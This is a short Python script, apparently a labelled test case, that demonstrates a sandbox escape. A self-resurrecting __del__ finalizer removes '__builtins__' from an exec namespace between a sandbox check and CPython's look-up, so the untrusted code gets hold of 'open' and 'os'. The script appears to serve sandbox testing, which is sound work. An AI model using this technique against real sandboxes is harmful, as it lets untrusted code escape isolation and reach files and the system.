"""H5, A15: a __del__ takes __builtins__ out of the dictionary between our check and CPython's own look-up in eval."""

loot = []
space = {"loot": loot}


class Bomb:
    def __del__(self):
        if space.pop("__builtins__", None) is None:
            again = Bomb()
            again.me = again


text = "".join(f"def a{n}(x): return x.gi_frame, x.f_back, {n}\n" for n in range(3000))
program = compile(text + "loot.append(open); loot.append(__import__('os').getcwd)", "x", "exec")
bomb = Bomb()
bomb.me = bomb
bomb = None
exec(program, space)
